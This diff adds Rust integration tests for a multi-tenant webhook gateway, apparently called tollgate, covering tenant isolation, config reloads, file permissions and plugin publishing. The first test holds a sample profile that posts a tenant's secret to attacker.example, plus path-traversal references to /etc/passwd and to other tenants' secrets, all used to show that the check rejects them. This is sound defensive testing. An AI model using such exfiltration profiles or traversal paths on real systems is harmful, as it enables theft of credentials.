@@ -1,0 +1,417 @@
+//! Configuration that cannot go wrong: what a tenant's file reaches, whose mistake is whose, and which reload is the last.
+
+use std::fs;
+use std::io::Write as _;
+use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _};
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use tollgate_tests::events::{plain, redeemed, signer};
+use tollgate_tests::plugins_dir;
+use tollgate_tests::stage::{CASHBACK, SOURCES, Setup, Stage, books_at, tollgate_with, wait_until};
+
+/// A tenant with a source whose secret, or other reference, is `reference`.
+fn shop_with(reference: &str) -> String {
+    format!("[sources.shop]\nprovider = \"generic-hmac\"\nsecrets = [{{ id = \"a\", value = {reference} }}]\n")
+}
+
+/// A profile of somebody's own that sends two secrets of the tenant's to a host of the author's choice.
+const SENDS_SECRETS: &str = r#"
+name = "evil"
+version = 1
+title = "Evil"
+[[parameter]]
+name = "a"
+what = "x"
+secret = true
+[jws]
+header = "x-jws"
+body_claim = "d"
+[[jws.scheme]]
+name = "ES256"
+algorithm = "ecdsa-p256-sha256-raw"
+key = { decode = "jwk" }
+[fetch]
+kind = "jwk"
+url = "https://attacker.example/k"
+hosts = ["attacker.example"]
+path_prefix = "/k"
+body = '{"a":"{config:a}","k":"{key-id}"}'
+pointer = "/key"
+[time]
+from = "claim:iat"
+format = "unix-seconds"
+tolerance_s = 300
+[event]
+id = "/id"
+type = "/type"
+"#;
+
+/// Whatever a tenant's file refers to that is not the tenant's: the check refuses it, shows nothing of it, and no host runs with it.
+#[test]
+fn a_tenants_file_reaches_nothing_of_the_operators_or_of_another_tenant() {
+    let hidden = "hidden-content-of-somebody-else";
+    let variables = [
+        ("OPTOK", "operator-token-0123456789"),
+        ("GLOBEX_LEDGER", "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE="),
+        ("AWS_SECRET_ACCESS_KEY", hidden),
+        ("MALLORY_KEY", "mallory-has-a-key-of-its-own"),
+    ];
+    let mut stage = Setup::default()
+        .tenancy("")
+        .secret("globex/key", hidden)
+        .secret("mallory/key", "mallory-has-a-key-of-its-own")
+        .tenant("mallory", &shop_with("{ env = \"MALLORY_KEY\" }"))
+        .tenant("globex", "")
+        .set();
+    // The stage writes the operator's file when a host starts; here no host does.
+    let _ = stage.try_start();
+    stage.kill();
+    let operator = fs::read_to_string(stage.config()).expect("a file");
+    fs::write(stage.config(), operator.replace("{ file = \"operator.token\" }", "{ env = \"OPTOK\" }")).expect("a file");
+    stage.write("outside", hidden);
+    stage.write("profiles/evil.toml", SENDS_SECRETS);
+    stage.write("profiles/globex/broken.toml", &format!("name = \"x\"\n{hidden} = 1\n"));
+    std::os::unix::fs::symlink(stage.path("outside"), stage.path("secrets/mallory/link")).expect("a link");
+    let outside = stage.path("outside").display().to_string();
+    let check = |tenant: &str| {
+        stage.write("tenants/mallory.toml", tenant);
+        let config = stage.config().display().to_string();
+        let json = tollgate_with(&variables, &["check", "--json", "--config", &config], b"");
+        let shown = tollgate_with(&variables, &["check", "--config", &config], b"");
+        (json.code, format!("{}{}{}{}", json.stdout, json.stderr, shown.stdout, shown.stderr))
+    };
+    let own = [
+        shop_with("{ env = \"MALLORY_KEY\" }"),
+        shop_with("{ file = \"../secrets/mallory/key\" }"),
+    ];
+    for tenant in own {
+        let (code, said) = check(&tenant);
+        assert_eq!(code, 0, "{tenant}: {said}");
+    }
+    let profile = |file: &str| {
+        format!(
+            "[sources.e]\nprofile = {{ file = \"{file}\" }}\n\
+             [sources.e.parameters]\na = {{ env = \"MALLORY_KEY\" }}\n"
+        )
+    };
+    let destination = |reference: &str| format!("[destinations.d]\nurl = \"https://d.example/\"\nsecrets = [{reference}]\n");
+    let others = [
+        (shop_with("{ env = \"OPTOK\" }"), "is not one of the tenant `mallory`"),
+        (shop_with("{ env = \"AWS_SECRET_ACCESS_KEY\" }"), "is not one of the tenant `mallory`"),
+        (shop_with("{ env = \"NOT_EVEN_SET\" }"), "is not one of the tenant `mallory`"),
+        (destination("{ env = \"GLOBEX_LEDGER\" }"), "is not one of the tenant `mallory`"),
+        (
+            format!("{}basic = [{{ user = \"u\", password = {{ env = \"GLOBEX_LEDGER\" }} }}]\n", shop_with("{ env = \"MALLORY_KEY\" }")),
+            "is not one of the tenant `mallory`",
+        ),
+        (shop_with("{ file = \"../secrets/globex/key\" }"), "out of the reach"),
+        (shop_with("{ file = \"../secrets/mallory/../globex/key\" }"), "out of the reach"),
+        (shop_with("{ file = \"../secrets/mallory/link\" }"), "out of the reach"),
+        (shop_with("{ file = \"../secrets/shop\" }"), "out of the reach"),
+        (shop_with("{ file = \"../outside\" }"), "out of the reach"),
+        (shop_with("{ file = \"../../../../../../etc/passwd\" }"), "out of the reach"),
+        (shop_with(&format!("{{ file = \"{outside}\" }}")), "out of the reach"),
+        (destination(&format!("{{ file = \"{outside}\" }}")), "out of the reach"),
+        (profile("/etc/passwd"), "out of the reach"),
+        (profile("../outside"), "out of the reach"),
+        (profile("../tollgate.toml"), "out of the reach"),
+        (profile("globex.toml"), "out of the reach"),
+        (profile("../profiles/globex/broken.toml"), "out of the reach"),
+        (profile("../profiles/evil.toml"), "which the operator does not list"),
+    ];
+    for (tenant, expect) in others {
+        let (code, said) = check(&tenant);
+        assert_eq!(code, 1, "{tenant}: {said}");
+        assert!(said.contains(expect), "{tenant}: {said}");
+        for secret in [hidden, "root:", "operator-token-0123456789", "MDEyMzQ1Njc4"] {
+            assert!(!said.contains(secret), "{tenant}: {said}");
+        }
+    }
+}
+
+/// The amount of the one credit that an event of 500.00 INR came to.
+fn credit(stage: &Stage, event: &str) -> String {
+    let answer = stage.post("shop", &signer("shop").sign("", redeemed(event, &format!("r_{event}"), "completed")));
+    assert_eq!(answer.status, 202, "{}", answer.word());
+    let trace = stage.finished(&answer.receipt());
+    trace["jobs"][0]["runs"][0]["actions"][0]["summary"].as_str().unwrap_or_else(|| panic!("{trace:#}")).to_owned()
+}
+
+#[test]
+fn reloads_that_overlap_end_with_the_newest_and_never_with_the_slowest() {
+    let mut stage = Setup::acme(CASHBACK).plugin("cashback").start();
+    let of_rate = |rate: &str| format!("{SOURCES}{}", CASHBACK.replace("rate_bps = 1000", &format!("rate_bps = {rate}")));
+    let ten_percent = credit(&stage, "evt_before");
+
+    // A plugin's file that does not come to its end makes a reload as slow as a test wants it.
+    let slow = stage.path("slow.wasm");
+    assert!(Command::new("mkfifo").arg(&slow).status().is_ok_and(|status| status.success()));
+    stage.write("tenants/acme.toml", &of_rate("5000"));
+    stage.offer("slow", &slow);
+    stage.signal("HUP");
+    // The host reads the pipe: it has read the tenants' files before, and now it waits.
+    let mut pipe = wait_until("the slow reload is under way", || {
+        fs::OpenOptions::new().write(true).custom_flags(rustix_nonblock()).open(&slow).ok()
+    });
+    stage.write("tenants/acme.toml", &of_rate("100"));
+    stage.offer("slow", &plugins_dir().join("fraud.wasm"));
+    stage.reload();
+    let one_percent = credit(&stage, "evt_newest");
+    assert_ne!(one_percent, ten_percent);
+
+    let component = fs::read(plugins_dir().join("fraud.wasm")).expect("a component");
+    let mut rest = component.as_slice();
+    while !rest.is_empty() {
+        match pipe.write(rest) {
+            Ok(written) => rest = &rest[written..],
+            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => std::thread::sleep(Duration::from_millis(2)),
+            Err(error) => panic!("{error}"),
+        }
+    }
+    drop(pipe);
+    wait_until("the slow reload has ended", || {
+        (!stage.log_with("a reload ended after a later one and is dropped").is_empty()).then_some(())
+    });
+    assert_eq!(credit(&stage, "evt_after").split(' ').nth(1), one_percent.split(' ').nth(1), "the slowest won");
+    assert_eq!(stage.log_with("configuration reloaded").len(), 1);
+}
+
+/// `O_NONBLOCK`: a pipe that nobody reads is not waited for.
+fn rustix_nonblock() -> i32 {
+    0o4000
+}
+
+fn metric_of(stage: &Stage, name: &str, tenant: &str) -> u64 {
+    stage.metric(&format!("tollgate_tenant_config_{name}{{tenant=\"{tenant}\"}}"))
+}
+
+#[test]
+fn one_tenants_typo_stops_neither_the_others_nor_a_start() {
+    let mut stage = Setup::acme(CASHBACK)
+        .tenant("globex", &format!("{SOURCES}{CASHBACK}"))
+        .plugin("cashback")
+        .start();
+    let good = fs::read_to_string(stage.path("tenants/acme.toml")).expect("a file");
+    let post = |stage: &Stage, tenant: &str, event: &str| {
+        stage.post_to(tenant, "shop", &signer("shop").sign("", plain("note", event))).status
+    };
+    for (number, spoilt) in ["[[[\n".to_owned(), good.replace("cashback\"", "cash-back\""), "\u{0}".to_owned()].iter().enumerate() {
+        // The others' changes are taken; the tenant goes on as it was.
+        stage.write("tenants/acme.toml", spoilt);
+        stage.write("tenants/globex.toml", &format!("{SOURCES}[routes.r{number}]\nplugin = \"cashback\"\n"));
+        stage.reload();
+        assert_eq!(metric_of(&stage, "stale", "acme"), 1, "{spoilt}");
+        assert_eq!(metric_of(&stage, "stale", "globex"), 0);
+        assert_eq!(post(&stage, "acme", &format!("evt_{number}")), 202);
+        let said = stage.log_with("the tenant keeps its last good configuration");
+        assert!(said.iter().any(|line| line.contains("\"tenant\":\"acme\"") && line.contains("since")), "{said:?}");
+        let routes = stage.ask(&["route", "list", "globex"]).json();
+        assert_eq!(routes[0]["route"], format!("r{number}"), "{routes}");
+        let checked = stage.ask(&["check"]);
+        assert_eq!(checked.code, 1);
+        let broken = &checked.json()["broken_tenants"][0];
+        assert_eq!((&broken["tenant"], &broken["runs_last_good"]), (&json!("acme"), &json!(true)), "{checked:?}");
+        assert!(broken["since"].is_string() && broken["of"].is_string(), "{checked:?}");
+
+        // And over a start, whatever became of the process.
+        stage.kill();
+        stage.start();
+        assert_eq!(metric_of(&stage, "stale", "acme"), 1);
+        assert_eq!(stage.trace(&format!("evt_{number}"))["receipt"]["tenant"], "acme");
+        let routes = stage.ask(&["route", "list", "acme"]).json();
+        assert_eq!(routes[0]["route"], "cashback", "{routes}");
+    }
+    // A tenant that is new and wrong is left out of a reload; its provider is asked to come again.
+    stage.write("tenants/initech.toml", "[[[\n");
+    stage.reload();
+    assert_eq!(metric_of(&stage, "left_out", "initech"), 1);
+    assert_eq!(post(&stage, "initech", "evt_new"), 503);
+    assert_eq!(post(&stage, "hooli", "evt_new"), 404);
+    // Nothing good is known of it: a start has to be told.
+    stage.kill();
+    let refused = stage.try_start().expect_err("a start without a word");
+    assert!(refused.contains("--without-broken-tenants") && refused.contains("initech.toml"), "{refused}");
+    assert!(!refused.contains("acme.toml"), "acme has a good one: {refused}");
+    stage.serve_with(&["--without-broken-tenants"]);
+    stage.start();
+    assert_eq!(post(&stage, "initech", "evt_new"), 503);
+    assert_eq!(post(&stage, "globex", "evt_end"), 202);
+
+    stage.write("tenants/acme.toml", &good);
+    fs::remove_file(stage.path("tenants/initech.toml")).expect("a file");
+    stage.reload();
+    assert_eq!(metric_of(&stage, "stale", "acme") + metric_of(&stage, "left_out", "initech"), 0);
+    // Who is gone is not kept.
+    fs::remove_file(stage.path("tenants/globex.toml")).expect("a file");
+    stage.reload();
+    let kept: Vec<_> = fs::read_dir(stage.path("tollgate.db-last-good"))
+        .expect("a folder")
+        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
+        .collect();
+    assert_eq!(kept, ["acme.json"]);
+}
+
+/// A route that was set by API and does not fit what its tenant's file says now holds up that tenant, and nobody else.
+#[test]
+fn a_route_set_by_api_that_does_not_fit_any_more_holds_up_its_tenant_alone() {
+    let books = books_at("books", "https://books.example/");
+    let stage = Setup::acme(&format!("{CASHBACK}{books}"))
+        .tenant("globex", SOURCES)
+        .plugin("cashback")
+        .start();
+    stage.write("bonus.toml", "plugin = \"cashback\"\ndestinations = [\"books\"]\n");
+    let file = stage.path("bonus.toml").display().to_string();
+    let set = stage.ask(&["route", "set", "acme", "bonus", "--file", &file, "--why", "a test"]);
+    assert_eq!(set.code, 0, "{set:?}");
+    stage.write("tenants/acme.toml", &format!("{SOURCES}{CASHBACK}"));
+    stage.write("tenants/globex.toml", &format!("{SOURCES}{CASHBACK}"));
+    stage.reload();
+    assert_eq!(metric_of(&stage, "stale", "acme"), 1);
+    let names = |tenant: &str| {
+        let routes = stage.ask(&["route", "list", tenant]).json();
+        routes.as_array().into_iter().flatten().map(|route| route["route"].clone()).collect::<Vec<Value>>()
+    };
+    assert_eq!(names("acme"), ["cashback", "bonus"]);
+    assert_eq!(names("globex"), ["cashback"]);
+}
+
+#[test]
+fn the_files_of_a_store_are_their_owners_alone() {
+    let mut stage = Setup::acme(CASHBACK).plugin("cashback").worker("cache = \"own-cache\"").set();
+    // As generous as a service manager may be, and a store that an older host left open to others.
+    stage.wrap(&["sh", "-c", "umask 000; exec \"$0\" \"$@\""]);
+    let modes = |stage: &Stage| {
+        let mut open = Vec::new();
+        for entry in fs::read_dir(stage.path(".")).expect("a folder") {
+            let entry = entry.expect("an entry");
+            let name = entry.file_name().into_string().expect("UTF-8");
+            if name.starts_with("tollgate.db") {
+                open.push((name, entry.metadata().expect("metadata").mode() & 0o777));
+            }
+        }
+        open.sort();
+        open
+    };
+    stage.start();
+    credit(&stage, "evt_1");
+    let found = modes(&stage);
+    for name in ["tollgate.db", "tollgate.db-bodies", "tollgate.db-last-good", "tollgate.db-shm", "tollgate.db-wal", "tollgate.db.lock"] {
+        let expected = if name == "tollgate.db-last-good" { 0o700 } else { 0o600 };
+        assert!(found.contains(&(name.to_owned(), expected)), "{name}: {found:?}");
+    }
+    assert!(found.iter().all(|(_, mode)| mode & 0o077 == 0), "{found:?}");
+    stage.kill();
+    for (name, _) in &found {
+        fs::set_permissions(stage.path(name), fs::Permissions::from_mode(0o777)).expect("a mode");
+    }
+    stage.start();
+    credit(&stage, "evt_2");
+    let found = modes(&stage);
+    assert!(found.iter().all(|(_, mode)| mode & 0o077 == 0), "{found:?}");
+    let copy = stage.path("copy.db").display().to_string();
+    let from = stage.path("tollgate.db").display().to_string();
+    stage.stop();
+    let exported = tollgate_with(&[], &["export", "--from", &from, "--to", &copy, "--json"], b"");
+    assert_eq!(exported.code, 0, "{exported:?}");
+    assert_eq!(fs::metadata(&copy).expect("a copy").mode() & 0o777, 0o600);
+}
+
+#[test]
+fn check_finds_what_would_go_wrong_later() {
+    let mut stage = Setup::default().plugin("cashback").set();
+    let _ = stage.try_start();
+    stage.kill();
+    let warnings = |stage: &Stage| {
+        let checked = stage.ask(&["check"]);
+        assert_eq!(checked.code, 0, "{checked:?}");
+        let json = checked.json();
+        let found = json["warnings"].as_array().into_iter().flatten();
+        found.map(|warning| warning["message"].as_str().unwrap_or_default().to_owned()).collect::<Vec<_>>().join("\n")
+    };
+    assert!(warnings(&stage).contains("there are no tenants"));
+    let tenant = format!("{SOURCES}{CASHBACK}");
+    stage.write("tenants/acme.toml", &tenant);
+    assert_eq!(warnings(&stage), "");
+    stage.write(
+        "tenants/acme.toml",
+        &tenant
+            .replace("id = \"shop-1\"", "id = \"shop-1\", not_after = 2026-01-01T00:00:00Z")
+            .replace("grants = [", "grants = [{ kind = \"reserve-stock\" }, "),
+    );
+    let found = warnings(&stage);
+    assert!(found.contains("the secret `shop-1` expired at 2026-01-01"), "{found}");
+    assert!(found.contains("`reserve-stock` is granted, which the plugin `cashback` never asks for"), "{found}");
+
+    // A second tenant with the same secrets, on a host whose operator trusts the files.
+    let operator = fs::read_to_string(stage.config()).expect("a file");
+    fs::write(stage.config(), operator.replace("[tenants]\n", "[tenants]\ntrust_files = true\n")).expect("a file");
+    stage.write("tenants/acme.toml", &tenant);
+    stage.write("tenants/globex.toml", &tenant);
+    let found = warnings(&stage);
+    assert!(found.contains("tenants share one secret: acme.sources.shop, globex.sources.shop"), "{found}");
+
+    let operator = fs::read_to_string(stage.config()).expect("a file");
+    fs::write(stage.config(), operator.replace("path = \"tollgate.db\"", "path = \"nowhere/tollgate.db\"")).expect("a file");
+    let checked = stage.ask(&["check"]);
+    assert_eq!(checked.code, 1);
+    assert!(checked.json()["problems"][0]["message"].as_str().is_some_and(|said| said.contains("nowhere does not exist")), "{checked:?}");
+}
+
+#[test]
+fn a_token_is_of_a_tenant_that_is_there() {
+    let mut stage = Setup::acme("").set();
+    let _ = stage.try_start();
+    let make = |stage: &Stage, tenant: &str| stage.ask(&["token", "create", "ci", "--role", "viewer", "--tenant", tenant]);
+    for running in [true, false] {
+        let refused = make(&stage, "acmee");
+        assert_eq!(refused.code, 1, "running: {running}: {refused:?}");
+        assert!(refused.stderr.contains("there is no tenant `acmee`; there are: acme"), "{refused:?}");
+        assert_eq!(make(&stage, "acme").code, 0);
+        stage.kill();
+    }
+}
+
+#[test]
+fn a_tenants_file_may_name_a_plugin_that_was_pushed() {
+    let stage = Setup::acme("").plugin("fraud").start();
+    let tenant = format!("{SOURCES}{CASHBACK}");
+    stage.write("tenants/acme.toml", &tenant);
+    stage.reload();
+    assert_eq!(metric_of(&stage, "stale", "acme"), 1, "nobody has such a plugin");
+    let file = plugins_dir().join("cashback.wasm").display().to_string();
+    let pushed = stage.ask(&["plugin", "push", &file, "--tenant", "acme"]);
+    assert_eq!(pushed.code, 0, "{pushed:?}");
+    assert_eq!(stage.ask(&["check"]).code, 1, "vetted is not published");
+    let digest = pushed.json()["digest"].as_str().expect("a digest").to_owned();
+    let published = stage.ask(&["plugin", "publish", &digest, "--tenant", "acme", "--why", "a test"]);
+    assert_eq!(published.code, 0, "{published:?}");
+    let checked = stage.ask(&["check"]);
+    assert_eq!(checked.code, 0, "{checked:?}");
+    stage.reload();
+    assert_eq!(metric_of(&stage, "stale", "acme"), 0);
+    assert!(credit(&stage, "evt_1").contains("credit"), "the newest that is published runs");
+    let bound = |stage: &Stage| stage.ask(&["route", "list", "acme"]).json()[0]["binding"]["active"].clone();
+    assert_eq!(bound(&stage), json!(digest));
+    // What is bound stays bound, whatever comes.
+    stage.reload();
+    assert_eq!(bound(&stage), json!(digest));
+}
+
+#[test]
+fn a_request_that_is_only_shown_is_json_where_json_is_asked_for() {
+    let stage = Setup::default().secret("one", "0123456789").set();
+    let secret = stage.path("secrets/one").display().to_string();
+    let ran = tollgate_with(
+        &[],
+        &["send", "--url", "http://127.0.0.1:9/in/acme/shop", "--secret-file", &secret, "--sample", "reward-redeemed", "--dry-run", "--json"],
+        b"",
+    );
+    assert_eq!(ran.code, 0, "{ran:?}");
+    let shown = ran.json();
+    assert_eq!((&shown["method"], &shown["url"]), (&json!("POST"), &json!("http://127.0.0.1:9/in/acme/shop")));
+    let headers = shown["headers"].as_array().cloned().unwrap_or_default();
+    assert!(headers.iter().any(|header| header["name"] == "x-signature"), "{shown}");
+    assert!(shown["body"].as_str().is_some_and(|body| serde_json::from_str::<Value>(body).is_ok()), "{shown}");
+}
